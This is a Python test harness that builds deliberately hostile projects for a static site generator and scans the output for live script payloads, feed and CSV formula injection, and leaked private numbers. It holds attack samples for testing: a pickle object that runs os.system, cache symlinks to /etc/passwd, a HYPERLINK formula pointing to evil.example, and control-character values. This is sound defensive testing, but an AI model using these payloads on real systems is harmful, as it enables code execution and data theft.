"""The gate harness: build hostile projects (black-box, through `python -m dvk` only) and judge outputs.

A hostile project is a copy of the repository's mkdocs.yml, content/, theme/, .gitignore and the
registries exemplars/*.yml (no sample exemplars), plus the crafted files. Cases that need nothing
but their own exemplar file share one project per class ("batch"); the others get one each.

Verdicts: SAFE (check --strict refuses the file, or the build carries no payload in live form),
UNSAFE, CRASH (a traceback, an unexpected error, or a build that fails after the check passed),
STALL (a timeout). Outcomes are written to test-artifacts/gate/outcomes.json; with
DVK_GATE_REPORT=<path> a Markdown report is written there too.
"""

from __future__ import annotations

import contextlib
import copy
import csv
import gzip
import html
import io
import json
import os
import pickle
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
import unicodedata
import xml.etree.ElementTree as ET
import zipfile
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml
from bs4 import BeautifulSoup
from PIL import Image

from . import attacks
from .attacks import CASES, Case

REPO = Path(__file__).resolve().parents[2]
SCRIPTS = REPO / "scripts"
PY = sys.executable
UNIT = "kv-giao-long"
WORKERS = 2
CHECK_TIMEOUT = 45  # a clean check takes ~1 s, so 45 s means stalled
BUILD_TIMEOUT = 100  # a clean one-exemplar build takes ~8 s
BATCH_CHECK_TIMEOUT = 180
BATCH_BUILD_TIMEOUT = 420
ARTIFACTS = REPO / "test-artifacts" / "gate"

SAFE, UNSAFE, CRASH, STALL = "SAFE", "UNSAFE", "CRASH", "STALL"
TRACEBACK = re.compile(
    r"Traceback \(most recent call last\)|lỗi không mong đợi|unexpected error|"
    r"RecursionError|Segmentation fault|core dumped",
    re.I,
)


# =============================================================================================
# running dvk
# =============================================================================================
@dataclass
class Run:
    cmd: list[str]
    rc: int | None
    out: str
    err: str
    secs: float

    @property
    def timed_out(self) -> bool:
        return self.rc is None

    @property
    def text(self) -> str:
        return self.out + "\n" + self.err

    def traceback(self) -> str | None:
        m = TRACEBACK.search(self.text)
        if m or (self.rc is not None and self.rc not in (0, 1)):
            lines = [ln for ln in self.text.splitlines() if ln.strip()]
            tail = " | ".join(lines[-3:])[-300:]
            return f"rc={self.rc}: {tail}"
        return None


def run(args: list[str], timeout: float, cwd: Path | None = None) -> Run:
    env = dict(os.environ, PYTHONPATH=str(SCRIPTS), PYTHONDONTWRITEBYTECODE="1")
    env.pop("GITHUB_ACTIONS", None)
    cmd = [PY, "-m", "dvk", *args]
    t0 = time.monotonic()
    proc = subprocess.Popen(
        cmd,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
        cwd=cwd,
        start_new_session=True,
        text=True,
        errors="replace",
    )
    try:
        out, err = proc.communicate(timeout=timeout)
        rc: int | None = proc.returncode
    except subprocess.TimeoutExpired:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGKILL)  # the process group this call started
        out, err = proc.communicate()
        rc = None
    return Run(cmd, rc, out or "", err or "", time.monotonic() - t0)


# =============================================================================================
# projects and exemplar files
# =============================================================================================
def new_project(root: Path) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    shutil.copy2(REPO / "mkdocs.yml", root / "mkdocs.yml")
    shutil.copytree(REPO / "content", root / "content")
    shutil.copytree(REPO / "theme", root / "theme")
    if (REPO / ".gitignore").exists():
        shutil.copy2(REPO / ".gitignore", root / ".gitignore")
    (root / "exemplars").mkdir()
    for reg in sorted((REPO / "exemplars").glob("*.yml")):
        shutil.copy2(reg, root / "exemplars" / reg.name)
    if "scripts/" in (root / "mkdocs.yml").read_text(encoding="utf-8"):
        (root / "scripts").symlink_to(SCRIPTS, target_is_directory=True)
    return root


def mark(value: Any, mk: str) -> Any:
    if isinstance(value, str):
        return value.replace("§", mk)
    if isinstance(value, list):
        return [mark(v, mk) for v in value]
    if isinstance(value, dict):
        return {mark(k, mk): mark(v, mk) for k, v in value.items()}
    return value


def slug_of(case: Case) -> str:
    return case.slug or f"gate-{case.n:03d}"


def front_matter(case: Case) -> str:
    base = attacks.BASE_INDIVIDUAL if case.kind == "individual" else attacks.BASE_COLLECTIVE
    data = copy.deepcopy(base)
    data["title"] = data["title"].format(n=case.n)
    for key, value in case.front.items():
        parts = key.split(".")
        target = data
        for p in parts[:-1]:
            target = target.setdefault(p, {})
        if value is None:
            target.pop(parts[-1], None)
        else:
            target[parts[-1]] = copy.deepcopy(value)
    for key in case.raw:
        data[key] = f"__RAW_{key}__"
    data = mark(data, case.mk)
    text = yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10**9)
    for key, raw in case.raw.items():
        text = text.replace(f"{key}: __RAW_{key}__", f"{key}: {mark(raw, case.mk)}")
    return text


def story(case: Case) -> str:
    body = case.story if case.story is not None else attacks.STORY
    if case.story_add:
        body = body.rstrip("\n") + "\n\n" + case.story_add
    return mark(body, case.mk)


def md_rel(case: Case) -> str:
    return f"exemplars/{UNIT}/{slug_of(case)}.md"


def write_case(root: Path, case: Case) -> list[str]:
    """Write the case's exemplar file and its photos; returns the repository paths written."""
    folder = root / "exemplars" / UNIT
    folder.mkdir(parents=True, exist_ok=True)
    (root / md_rel(case)).write_text(f"---\n{front_matter(case)}---\n\n{story(case)}", encoding="utf-8")
    written = [md_rel(case)]
    for name, spec in case.files.items():
        name = mark(name, case.mk)
        (folder / name).write_bytes(image(spec))
        written.append(f"exemplars/{UNIT}/{name}")
    return written


# --- images -------------------------------------------------------------------------------------
def _tiff(entries: list[tuple[int, int, int, bytes]], next_ifd: int = 0, ifd_at: int = 8) -> bytes:
    out = b"MM\x00\x2a" + ifd_at.to_bytes(4, "big") + len(entries).to_bytes(2, "big")
    for tag, typ, count, value in entries:
        out += tag.to_bytes(2, "big") + typ.to_bytes(2, "big") + count.to_bytes(4, "big") + value.ljust(4, b"\0")
    return out + next_ifd.to_bytes(4, "big")


BAD_EXIF = {
    "exif-truncated": b"MM\x00\x2a\x00\x00\x00\x08\xff\xf0\x01\x12\x00\x03\x00",
    "exif-offset": b"MM\x00\x2a\xff\xff\xff\x00" + b"\0" * 8,
    "exif-loop": _tiff([(0x8769, 4, 1, (8).to_bytes(4, "big"))], next_ifd=8),
    "orientation-ascii": _tiff([(0x0112, 2, 4, b"abc\0")]),
    "orientation-99": _tiff([(0x0112, 3, 1, (99).to_bytes(2, "big"))]),
}
COLOURS = {"red": (220, 30, 30), "blue": (30, 60, 220)}


def image(spec: str) -> bytes:
    fmt, _, variant = spec.partition(":")
    colour = COLOURS.get(variant, (200, 120, 40))
    im = Image.new("RGB", (64, 48), colour)
    out = io.BytesIO()
    kw: dict[str, Any] = {}
    if variant in BAD_EXIF:
        raw = BAD_EXIF[variant]
        kw["exif"] = (b"Exif\x00\x00" + raw) if fmt == "jpeg" else raw
    im.save(out, {"jpeg": "JPEG", "png": "PNG", "webp": "WEBP"}[fmt], **kw)
    return out.getvalue()


def jpeg_with_gps(marker: str, size: tuple[int, int]) -> bytes:
    exif = Image.Exif()
    exif[0x010E] = marker  # ImageDescription
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (10.0, 14.0, 30.0), "E", (106.0, 22.0, 15.0)
    out = io.BytesIO()
    Image.new("RGB", size, (10, 200, 10)).save(out, "JPEG", exif=exif)
    return out.getvalue()


# =============================================================================================
# scanning the outputs
# =============================================================================================
@dataclass
class Finding:
    case: str | None  # case id, or None when no marker names one
    where: str  # file (and member)
    rule: str
    snippet: str

    def line(self) -> str:
        return f"{self.rule} in {self.where}: {self.snippet[:160]!r}"


URL_ATTRS = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "xlink:href",
    "srcset",
    "background",
    "cite",
    "ping",
    "codebase",
    "manifest",
    "lowsrc",
    "dynsrc",
    "content",
}
FORM_TAGS = {
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "template",
    "math",
    "portal",
    "noscript",
    "isindex",
}
TEXT_EXT = {".html", ".xml", ".json", ".csv", ".js", ".txt", ".md", ".svg", ".webmanifest", ".css"}
SKIP_PREFIX = ("assets/javascripts/", "assets/stylesheets/")
REL = re.compile(r'(?:\.\./)+|"\.\.?"|"(?:\.\./)*\.\."')
TAG_IN_TEXT = re.compile(
    r"<\s*/?\s*(img|script|svg|iframe|object|embed|a|b|i|u|em|strong|style|details|"
    r"form|input|body|video|audio|math|base|meta|link)\b",
    re.I,
)


def _rel(v: str) -> str:
    return REL.sub("", v)


@dataclass
class Baseline:
    srcs: set[str] = field(default_factory=set)
    inline: set[str] = field(default_factory=set)
    sigs: set[tuple] = field(default_factory=set)
    link_rels: set[str] = field(default_factory=set)
    csv_cells: set[str] = field(default_factory=set)
    pages: int = 0


def _sig(el: Any) -> tuple:
    return (
        el.name,
        tuple(sorted(el.get("class", []) or [])),
        el.get("type"),
        el.get("id"),
        el.get("name"),
        el.get("role"),
    )


def learn_baseline(site: Path) -> Baseline:
    # The site's own scripts are the files of theme/ (some load only on a page that needs them,
    # such as the photo viewer on a page with photos), wherever a page names them from.
    b = Baseline(srcs={p.relative_to(REPO / "theme").as_posix() for p in (REPO / "theme").rglob("*.js")})
    for f in site.rglob("*.html"):
        soup = BeautifulSoup(f.read_text(encoding="utf-8", errors="replace"), "html.parser")
        b.pages += 1
        for el in soup.find_all(True):
            if el.name == "script":
                if el.get("src"):
                    b.srcs.add(_rel(el["src"]))
                else:
                    b.inline.add(_rel(el.string or ""))
            elif el.name in FORM_TAGS:
                b.sigs.add(_sig(el))
            elif el.name == "link":
                b.link_rels.update(el.get("rel", []))
    for f in site.rglob("*.csv"):
        for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8-sig", errors="replace"))):
            b.csv_cells.update(row)
    return b


class Scanner:
    """Looks for live payloads in one built site; attributes each finding by the case marker."""

    def __init__(self, site: Path, cases: list[Case], baseline: Baseline) -> None:
        self.site = site
        self.cases = cases
        self.base = baseline
        self.marks = {c.mk: c.id for c in cases}
        self.slugs = {slug_of(c): c.id for c in cases}
        self.mark_re = re.compile("|".join(re.escape(m) for m in self.marks)) if self.marks else None
        self.findings: list[Finding] = []
        self.texts: dict[str, str] = {}  # where -> text, for needles and private data
        self.blobs: dict[str, bytes] = {}

    # --- attribution ------------------------------------------------------------------------
    def owners(self, snippet: str, where: str) -> list[str | None]:
        ids = sorted({self.marks[m] for m in self.mark_re.findall(snippet)}) if self.mark_re else []
        if ids:
            return list(ids)
        m = re.search(r"(?:^|/)(gate-\d{3})(?:/|\.|-)", where)
        if m and m.group(1) in self.slugs:
            return [self.slugs[m.group(1)]]
        return [None]

    def add(self, where: str, rule: str, snippet: str, context: str | None = None) -> None:
        for cid in self.owners(context if context is not None else snippet, where):
            self.findings.append(Finding(cid, where, rule, snippet))

    # --- walk -------------------------------------------------------------------------------
    def scan(self) -> Scanner:
        for f in sorted(self.site.rglob("*")):
            if not f.is_file():
                continue
            rel = f.relative_to(self.site).as_posix()
            self.scan_name(rel)
            if rel.startswith(SKIP_PREFIX):
                continue
            data = f.read_bytes()
            self.scan_blob(rel, data)
        return self

    def scan_name(self, rel: str) -> None:
        if re.search(r"[^A-Za-z0-9._/\-]", rel.rsplit("!", 1)[-1]):
            self.add(rel, "unusual character in an output file name", rel)
        self.texts[f"(file name) {rel}"] = rel

    def scan_blob(self, where: str, data: bytes) -> None:
        ext = os.path.splitext(where)[1].lower()
        if ext == ".zip":
            try:
                with zipfile.ZipFile(io.BytesIO(data)) as z:
                    for info in z.infolist():
                        self.scan_name(f"{where}!{info.filename}")
                        self.scan_blob(f"{where}!{info.filename}", z.read(info))
            except zipfile.BadZipFile as e:
                self.add(where, "story kit is not a valid zip", str(e))
            return
        if ext == ".gz":
            try:
                data = gzip.decompress(data)
                ext = os.path.splitext(where[:-3])[1].lower()
            except OSError:
                return
        if ext not in TEXT_EXT:
            self.blobs[where] = data
            return
        text = data.decode("utf-8", errors="replace")
        self.texts[where] = text
        name = where.rsplit("/", 1)[-1]
        if ext == ".html":
            # only a page that carries some case's marker can carry that case's payload
            if self.mark_re and self.mark_re.search(text):
                self.scan_html(where, text)
        elif ext == ".xml" and not name.startswith("sitemap"):
            self.scan_feed(where, data)
        elif ext == ".json":
            self.scan_json(where, text)
        elif ext == ".csv":
            self.scan_csv(where, text)
        elif ext == ".md":
            self.scan_raw_html(where, text, "raw HTML in a text output")
        # A story kit's .txt is text/plain and the search index is shown with textContent: text a
        # contributor typed is inert there, as it is escaped on the pages.

    # --- HTML -------------------------------------------------------------------------------
    def scan_html(self, where: str, text: str) -> None:
        soup = BeautifulSoup(text, "html.parser")
        for el in soup.find_all(True):
            tag = el.name.lower()
            outer = _short(str(el))
            for attr, val in el.attrs.items():
                a = attr.lower()
                v = " ".join(val) if isinstance(val, list) else str(val)
                if a.startswith("on"):
                    self.add(where, f"on* attribute <{tag} {a}>", f'<{tag} {a}="{v[:120]}">', v + outer)
                if a in URL_ATTRS:
                    u = re.sub(r"[\x00-\x20\x7f]+", "", v).lower()
                    if a == "content":
                        if (el.get("http-equiv") or "").lower() == "refresh" and not re.match(
                            r"0; url=(\.\./)*[a-z0-9-]+(/[a-z0-9-]+)*/index\.html$", v
                        ):
                            self.add(where, "meta refresh", outer)
                        continue
                    if u.startswith(("javascript:", "vbscript:", "livescript:")):
                        self.add(where, f"{u.split(':')[0]}: URL in {a}", outer, v + outer)
                    elif u.startswith("data:") and not re.match(r"data:image/(png|gif|jpe?g|webp);", u):
                        self.add(where, f"data: URL in {a}", outer, v + outer)
                    elif u.startswith("mailto:") and ("?" in u or "&" in u):
                        self.add(where, "mailto: link carries a query (cc/body)", outer, v + outer)
                if a == "style" and re.search(r"javascript:|expression\(|url\(", v, re.I):
                    self.add(where, "active style attribute", outer)
                if a in ("class", "id") and self.mark_re:
                    for m in self.mark_re.findall(v):
                        if re.search(rf"(?:^|\s)(?:cls|id|h){m}(?:\s|$)", v):
                            self.add(where, "attr_list from contributor text applied", outer, m)
            if tag == "script":
                if el.get("src"):
                    if _rel(el["src"]) not in self.base.srcs:
                        self.add(where, "script src not the theme's", outer)
                elif (el.get("type") or "").lower() in ("application/json", "application/ld+json"):
                    try:
                        json.loads(el.string or "")
                    except ValueError:
                        self.add(where, "data script is not valid JSON", outer)
                elif _rel(el.string or "") not in self.base.inline:
                    self.add(where, "inline script not the theme's", outer)
            elif tag in FORM_TAGS and _sig(el) not in self.base.sigs:
                self.add(where, f"<{tag}> element not in a baseline page", outer)
            elif tag == "link" and not set(el.get("rel", [])) <= self.base.link_rels:
                self.add(where, "unexpected <link rel>", outer)
            elif tag == "meta" and (el.get("http-equiv") or "").lower() not in ("", "refresh"):
                # The site's own Content-Security-Policy is the first element of <head>; any other
                # http-equiv, or a policy elsewhere, came from a contributor.
                first = el.parent is not None and el.parent.name == "head" and el.parent.find(True) is el
                if not ((el.get("http-equiv") or "").lower() == "content-security-policy" and first):
                    self.add(where, "meta http-equiv", outer)
            elif (self.mark_re and ("admonition-title" in (el.get("class") or []) or tag == "summary")
                  and self.mark_re.search(el.get_text())):
                self.add(where, "admonition/details made from contributor text", outer)

    def scan_raw_html(self, where: str, text: str, rule: str) -> None:
        for m in re.finditer(r"<\s*(script|img|svg|iframe|object|embed|details|a\s)[^<]{0,300}", text, re.I):
            frag = m.group(0)
            if re.search(r"<\s*script|\son\w+\s*=|javascript:", frag, re.I):
                self.add(where, rule, frag)

    # --- feeds ------------------------------------------------------------------------------
    def scan_feed(self, where: str, data: bytes) -> None:
        try:
            root = ET.fromstring(data)
        except ET.ParseError as e:
            # the whole feed is broken; find which entries break it by parsing each one alone
            text = data.decode("utf-8", "replace")
            blamed = False
            for m in re.finditer(r"<(item|entry)\b.*?</\1>", text, re.S):
                block = m.group(0)
                try:
                    ET.fromstring(
                        block.replace("<entry", "<entry xmlns='http://www.w3.org/2005/Atom'", 1)
                        if block.startswith("<entry")
                        else block
                    )
                    self.scan_feed_tree(
                        where,
                        ET.fromstring(
                            block.replace("<entry", "<entry xmlns='http://www.w3.org/2005/Atom'", 1)
                            if block.startswith("<entry")
                            else block
                        ),
                    )
                except ET.ParseError as e2:
                    blamed = True
                    bad = re.search(r"[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]", block)
                    snippet = block[max(0, bad.start() - 60) : bad.start() + 40] if bad else block[:160]
                    self.add(where, f"feed does not parse ({e}; entry: {e2})", _short(snippet), block)
            if not blamed:
                self.add(where, f"feed does not parse ({e})", _short(text[:200]), "")
            return
        self.scan_feed_tree(where, root)

    def scan_feed_tree(self, where: str, root: ET.Element) -> None:
        """RSS <description> (and content:encoded) is HTML to every reader; Atom text is HTML only
        when typed so. Contributor tags there are live in the reader."""
        for el in root.iter():
            local = el.tag.split("}")[-1]
            atom = el.tag.startswith("{http://www.w3.org/2005/Atom}")
            is_html = (el.get("type") in ("html", "xhtml")) if atom else local in ("description", "encoded")
            text = el.text or ""
            if is_html and text and TAG_IN_TEXT.search(text) and self.mark_re and self.mark_re.search(text):
                self.add(
                    where, f"HTML from the contributor in feed <{local}>", _short(text, around=TAG_IN_TEXT.pattern)
                )

    # --- open data --------------------------------------------------------------------------
    def scan_json(self, where: str, text: str) -> None:
        def bad_constant(name: str) -> Any:
            raise ValueError(name)

        try:
            doc = json.loads(text, parse_constant=bad_constant)
        except ValueError as e:
            pos = max((text.find(t) for t in ("NaN", "Infinity")), default=-1)
            ctx = text[max(0, pos - 4000) : pos + 100] if pos >= 0 else text[:2000]
            last = self.mark_re.findall(ctx)[-1:] if self.mark_re else []
            self.add(where, f"invalid JSON ({e})", _short(text[max(0, pos - 60) : pos + 60]), "".join(last) or where)
            return
        # Open data carries text as JSON strings (inert until a consumer renders them) and the
        # story as the site publishes it: that HTML must be as clean as the page's.
        for s in _story_html(doc):
            self.scan_html(where + "#story_html", s)

    def scan_csv(self, where: str, text: str) -> None:
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
            for cell in row:
                if cell and cell[0] in "=+-@\t\r":
                    owners = self.owners(cell, "")
                    if owners == [None] and cell in self.base.csv_cells:
                        continue
                    self.add(where, "CSV cell starts with a formula character", cell[:120])

    # --- needles and private data -------------------------------------------------------------
    def ordered(self) -> list[str]:
        """Where to look first: pages, then feeds, open data, story kits, file names."""

        def rank(w: str) -> tuple[int, str]:
            if w.startswith("(file name)"):
                return (5, w)
            if "!" in w:
                return (4, w)
            return ({".html": 0, ".xml": 1, ".csv": 2, ".json": 3}.get(os.path.splitext(w)[1], 3), w)

        return sorted(self.texts, key=rank)

    def find_needle(self, needle: str) -> Finding | None:
        for where in self.ordered():
            text = self.texts[where]
            i = text.find(needle)
            if i >= 0:
                return Finding(None, where, f"needle {needle!r} present", text[max(0, i - 60) : i + 80])
        nb = needle.encode()
        for where, data in self.blobs.items():
            i = data.find(nb)
            if i >= 0:
                return Finding(None, where, f"needle {needle!r} present (binary)", repr(data[max(0, i - 20) : i + 60]))
        return None

    _norm_cache: dict[str, str]

    def normalised(self) -> dict[str, str]:
        if not hasattr(self, "_norm_cache"):
            self._norm_cache = {w: normalise_digits(t) for w, t in self.texts.items()}
        return self._norm_cache

    def find_private(self, digits: str) -> Finding | None:
        norms = self.normalised()
        for where in self.ordered():
            norm = norms[where]
            i = norm.find(digits)
            if i >= 0:
                return Finding(
                    None, where, f"private number {digits} present (normalised)", norm[max(0, i - 40) : i + 60]
                )
        return None

    def find_private_text(self, phrase: str) -> Finding | None:
        p = _plain(phrase)
        for where in self.ordered():
            t = _plain(self.texts[where])
            i = t.find(p)
            if i >= 0:
                return Finding(None, where, f"private address {phrase!r} present", t[max(0, i - 40) : i + 80])
        return None


def _short(s: str, n: int = 300, around: str | None = None) -> str:
    s = s.replace("\n", "\\n")
    if around:
        m = re.search(around, s, re.I)
        if m:
            return s[max(0, m.start() - 80) : m.start() + n - 80]
    return s[:n]


def _strings(doc: Any):
    if isinstance(doc, str):
        yield doc
    elif isinstance(doc, dict):
        for k, v in doc.items():
            yield from _strings(k)
            yield from _strings(v)
    elif isinstance(doc, list):
        for v in doc:
            yield from _strings(v)


def _unescape_js(text: str) -> str:
    return re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), text)


def _plain(text: str) -> str:
    text = _unescape_js(text)
    text = re.sub(r"<!--.*?-->", "", text, flags=re.S)
    text = re.sub(r"<[^>]{0,500}>", "", text)
    text = html.unescape(text)
    text = unicodedata.normalize("NFC", text).casefold()
    return re.sub(r"[\s\u200b-\u200d\u2060\ufeff]+", " ", text)


VI_DIGITS = {
    "không": "0",
    "linh": "0",
    "lẻ": "0",
    "một": "1",
    "mốt": "1",
    "hai": "2",
    "ba": "3",
    "bốn": "4",
    "tư": "4",
    "năm": "5",
    "lăm": "5",
    "sáu": "6",
    "bảy": "7",
    "bẩy": "7",
    "tám": "8",
    "chín": "9",
}
_VI_RUN = re.compile(r"(?:\b(?:{})\b[\s,.\-]*){{7,}}".format("|".join(VI_DIGITS)), re.I)


def normalise_digits(text: str) -> str:
    """Digits of any script → ASCII, O next to a digit → 0, spelled-out Vietnamese digits → digits,
    markup and every separator removed: a private number written any of those ways reads as digits."""
    t = _plain(text)
    t = _VI_RUN.sub(lambda m: "".join(VI_DIGITS[w] for w in re.findall(r"\w+", m.group(0))), t)
    t = "".join(str(unicodedata.decimal(ch)) if unicodedata.decimal(ch, None) is not None else ch for ch in t)
    t = re.sub(r"[^\w]|_", "", t)
    prev = None
    while prev != t:
        prev = t
        t = re.sub(r"o(?=\d)|(?<=\d)o", "0", t)
    return t


# =============================================================================================
# outcomes
# =============================================================================================
@dataclass
class Outcome:
    id: str
    cls: str
    what: str
    verdict: str
    evidence: str
    details: list[str] = field(default_factory=list)
    secs: float = 0.0

    def explain(self) -> str:
        body = "\n  ".join(self.details[:12])
        return f"[{self.id}] {self.verdict}: {self.evidence}" + (f"\n  {body}" if body else "")


def diagnostics_for(report: dict[str, Any], paths: list[str]) -> list[dict[str, Any]]:
    return [d for d in report.get("diagnostics", []) if d.get("path") in paths]


def parse_check(r: Run) -> dict[str, Any] | None:
    try:
        start = r.out.index("{")
        return json.loads(r.out[start:])
    except ValueError:
        return None


def _priority(rule: str) -> int:
    """Evidence order: live HTML first, then feeds, formulas, open data, the rest."""
    for i, words in enumerate(
        (
            ("accepted",),
            (
                "on* attribute",
                "script",
                "URL in",
                "attr_list",
                "admonition",
                "element not in",
                "meta",
                "mailto",
                "style",
                "link rel",
            ),
            ("feed",),
            ("needle", "private"),
            ("CSV",),
            ("open data", "JSON"),
        )
    ):
        if any(w in rule for w in words):
            return i
    return 9


def judge_site(
    cases: list[Case], site: Path, baseline: Baseline, root: Path, build_secs: float, check_notes: dict[str, str]
) -> dict[str, Outcome]:
    scanner = Scanner(site, cases, baseline).scan()
    by_case: dict[str | None, list[Finding]] = {}
    for f in scanner.findings:
        by_case.setdefault(f.case, []).append(f)
    outcomes = {}
    for c in cases:
        found = list(by_case.get(c.id, []))
        for needle in c.needles:
            hit = scanner.find_needle(mark(needle, c.mk))
            if hit:
                found.append(hit)
        for digits in c.private:
            hit = scanner.find_private(digits)
            if hit:
                found.append(hit)
        for phrase in c.private_text:
            hit = scanner.find_private_text(phrase)
            if hit:
                found.append(hit)
        if c.probe:
            found.extend(PROBES[c.probe](c, site, root))
        if c.must_refuse:
            found.insert(0, Finding(c.id, md_rel(c), "check --strict accepted it", check_notes.get(c.id, "")))
        found.sort(key=lambda f: _priority(f.rule))
        if found:
            outcomes[c.id] = Outcome(
                c.id, c.cls, c.what, UNSAFE, found[0].line(), [f.line() for f in found], build_secs
            )
        else:
            outcomes[c.id] = Outcome(
                c.id,
                c.cls,
                c.what,
                SAFE,
                "check passed; no payload in any output" + check_notes.get(c.id, ""),
                secs=build_secs,
            )
    stray = by_case.get(None, [])
    if stray:
        (ARTIFACTS / f"unattributed-{root.name}.txt").write_text("\n".join(f.line() for f in stray), encoding="utf-8")
    return outcomes


# --- probes and setups --------------------------------------------------------------------------
def probe_distinct_photos(case: Case, site: Path, root: Path) -> list[Finding]:
    page = site / "dien-hinh" / slug_of(case) / "index.html"
    if not page.exists():
        return [Finding(case.id, str(page), "exemplar page missing", "")]
    soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
    srcs = [img.get("src") for fig in soup.find_all("figure") for img in fig.find_all("img")]
    if len(srcs) >= 2 and len(set(srcs)) < len(srcs):
        return [
            Finding(
                case.id,
                page.relative_to(site).as_posix(),
                "two photos publish under one file name (one overwrites the other)",
                ", ".join(srcs),
            )
        ]
    return []


def probe_pickle_marker(case: Case, site: Path, root: Path) -> list[Finding]:
    marker = root.parent / f"pickle-ran-{case.mk}"
    if marker.exists():
        return [
            Finding(
                case.id,
                ".cache/dvk/checked.pickle",
                "unpickling the committed cache ran code",
                f"marker file {marker} was created",
            )
        ]
    return []


def probe_outside_untouched(case: Case, site: Path, root: Path) -> list[Finding]:
    outside = root.parent / "outside-cache"
    files = [p for p in outside.rglob("*") if p.is_file()]
    if files:
        return [
            Finding(
                case.id,
                str(outside),
                "the build wrote outside the repository through a committed .cache symlink",
                f"{len(files)} files, e.g. {files[0].relative_to(outside)}",
            )
        ]
    return []


PROBES = {
    "distinct_photos": probe_distinct_photos,
    "pickle_marker": probe_pickle_marker,
    "outside_untouched": probe_outside_untouched,
}


def _prime(root: Path) -> None:
    """Build once so that .cache/ holds what an attacker's own build would commit."""
    r = run(["--root", str(root), "build", "--site-dir", str(root.parent / "prime-site")], BUILD_TIMEOUT)
    shutil.rmtree(root.parent / "prime-site", ignore_errors=True)
    if r.rc != 0:
        raise RuntimeError(f"priming build failed: {r.traceback() or r.text[-300:]}")


def setup_cache_symlink(root: Path, sub: str) -> None:
    _prime(root)
    n = 0
    for f in (root / ".cache" / sub).rglob("*"):
        if f.is_file():
            f.unlink()
            f.symlink_to("/etc/passwd")
            n += 1
    if not n:
        raise RuntimeError(f"no .cache/{sub} entries to replace (cache layout changed?)")


def setup_cache_photo_poison(root: Path, case: Case) -> None:
    _prime(root)
    n = 0
    for f in (root / ".cache" / "photos").rglob("*"):
        if f.is_file() and f.suffix in (".jpg", ".webp"):
            with Image.open(f) as im:
                size = im.size
            data = jpeg_with_gps(f"GPS{case.mk}", size)
            if f.suffix == ".webp":
                out = io.BytesIO()
                with Image.open(io.BytesIO(data)) as im:
                    im.save(out, "WEBP", exif=im.info.get("exif", b""))
                data = out.getvalue()
            f.write_bytes(data)
            n += 1
    if not n:
        raise RuntimeError("no .cache/photos entries to poison")


class _Evil:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return (os.system, (f"touch {self.path}",))


def setup_cache_pickle(root: Path, case: Case) -> None:
    d = root / ".cache" / "dvk"
    d.mkdir(parents=True, exist_ok=True)
    (d / "checked.pickle").write_bytes(pickle.dumps(_Evil(str(root.parent / f"pickle-ran-{case.mk}"))))


def setup_cache_dir_outside(root: Path, case: Case) -> None:
    outside = root.parent / "outside-cache"
    outside.mkdir()
    (root / ".cache").symlink_to(outside, target_is_directory=True)


def setup_tracked_site(root: Path, case: Case) -> None:
    site = root / "site"
    (site / "dien-hinh").mkdir(parents=True)
    page = f"<!doctype html><title>x</title><script>{attacks.JS}</script>".replace("§", case.mk)
    (site / "evil.html").write_text(page, encoding="utf-8")
    (site / "dien-hinh" / "evil-page.html").write_text(page, encoding="utf-8")


def _units(root: Path, old: str, new: str) -> None:
    p = root / "exemplars" / "units.yml"
    text = p.read_text(encoding="utf-8")
    if old not in text:
        raise RuntimeError(f"units.yml has no {old!r}")
    p.write_text(text.replace(old, new, 1), encoding="utf-8")


GIAO_LONG = "{id: kv-giao-long, name: Khối vận xã Giao Long,"
SETUPS = {
    "cache_photo_symlink": lambda root, case: setup_cache_symlink(root, "photos"),
    "cache_card_symlink": lambda root, case: setup_cache_symlink(root, "cards"),
    "cache_photo_poison": setup_cache_photo_poison,
    "cache_pickle": setup_cache_pickle,
    "cache_dir_outside": setup_cache_dir_outside,
    "tracked_site": setup_tracked_site,
    "units_formula": lambda root, case: _units(
        root,
        GIAO_LONG,
        f'{{id: kv-giao-long, name: \'=HYPERLINK("http://evil.example/{case.mk}","Khối vận xã Giao Long")\',',
    ),
    "units_control": lambda root, case: _units(
        root, GIAO_LONG, f'{{id: kv-giao-long, name: "Khối vận\\x0b xã\\x1b Giao\\x08 Long {case.mk}",'
    ),
    "units_duplicate": lambda root, case: _units(
        root, "{id: kv-an-phuoc, name: Khối vận xã An Phước,", "{id: kv-an-phuoc, name: Khối vận xã Giao Long,"
    ),
}


# =============================================================================================
# the runs
# =============================================================================================
def _xlsx_findings(case: Case, root: Path) -> list[str]:
    out = root.parent / "r.xlsx"
    r = run(["--root", str(root), "report", "--format", "xlsx", "--output", str(out)], CHECK_TIMEOUT)
    if r.timed_out:
        return [f"STALL: report --format xlsx timed out after {CHECK_TIMEOUT}s"]
    if r.traceback():
        return [f"CRASH: report --format xlsx: {r.traceback()}"]
    if r.rc != 0 or not out.exists():
        return []
    import openpyxl

    found = []
    wb = openpyxl.load_workbook(out)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(
                        f"UNSAFE: formula cell {ws.title}!{cell.coordinate} in r.xlsx: {str(cell.value)[:100]!r}"
                    )
    return found


def selected() -> list[Case]:
    """DVK_GATE_ONLY=<regex> runs only the matching case ids (to debug one case)."""
    only = os.environ.get("DVK_GATE_ONLY")
    return [c for c in CASES if not only or re.search(only, c.id)]


class Harness:
    """Every case run once per session; results shared by the tests."""

    def __init__(self, tmp: Path) -> None:
        self.tmp = tmp
        threading.stack_size(512 * 1024 * 1024)  # deep documents: parse them, do not die of recursion
